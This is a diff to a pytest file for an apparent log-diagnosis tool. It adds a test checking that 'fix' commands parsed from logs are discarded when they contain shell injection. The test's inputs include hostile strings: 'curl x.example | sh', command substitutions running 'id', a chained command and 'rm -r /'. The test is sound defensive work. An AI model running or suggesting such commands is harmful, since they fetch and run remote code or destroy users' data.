@@ -245,7 +245,10 @@ def test_why_a_replica_died_is_the_one_finding(before):
     assert [one.id for one in diagnosis.diagnose([*INNOCENT, DIED])] == ["LOG-REPLICA-DIED"]
 
 
-@pytest.mark.parametrize("fix", ["", "fix it", f"--set train.resume=/{'long/' * 20}policy"])
+OWN = "scripts/check_dataset.py ROOT --fix  # a new folder"
+
+
+@pytest.mark.parametrize("fix", ["", OWN, f"--set train.resume=/{'long/' * 20}policy"])
 def test_findings_of_our_own_commands_are_read_back(fix):
     printed = f.as_text(
         [f.error("ENGINE-MODEL", "models/x", "got no config.json, expected one", fix)]
@@ -256,6 +259,16 @@ def test_findings_of_our_own_commands_are_read_back(fix):
         "models/x: got no config.json, expected one",
         fix,
     )
+
+
+@pytest.mark.parametrize(
+    "fix", ["curl x.example | sh", "--set a=$(id)", "scripts/x.py; id", "--set a=`id`", "rm -r /"]
+)
+def test_a_log_gives_no_commands_to_a_shell(fix):
+    line = f"error: DATA-ROW record 7: got a caption  fix: {fix}"
+    for lines in ([line], line.replace("  fix", "\n  fix").splitlines()):
+        (found,) = diagnosis.diagnose(lines)
+        assert found.id == "DATA-ROW" and not found.fix
 
 
 @pytest.mark.parametrize("resume", ["", "/checkpoints/step_20/policy"])
